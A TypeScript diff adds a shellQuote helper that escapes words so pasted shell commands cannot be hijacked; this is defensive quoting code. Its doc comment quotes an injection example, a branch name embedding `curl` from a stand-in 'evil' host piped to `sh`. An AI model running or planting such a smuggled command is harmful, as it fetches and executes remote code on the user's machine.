@@ -59,3 +59,13 @@ export function splitArgs(text: string): string[] | undefined {
 export function plural(n: number, word: string): string {
   return `${n} ${word}${n === 1 ? '' : 's'}`
 }
+
+/**
+ * A word as a POSIX shell reads it back unchanged: as it is where it holds only characters no shell gives a meaning
+ * to, else in single quotes (a ' inside written '\''). For commands the action prints for a person to paste: a branch
+ * named `x$(curl${IFS}-s${IFS}evil|sh)` stays a name.
+ */
+export function shellQuote(word: string): string {
+  if (/^[A-Za-z0-9_@%+=:,./-]+$/.test(word)) return word
+  return `'${word.replace(/'/g, `'\\''`)}'`
+}
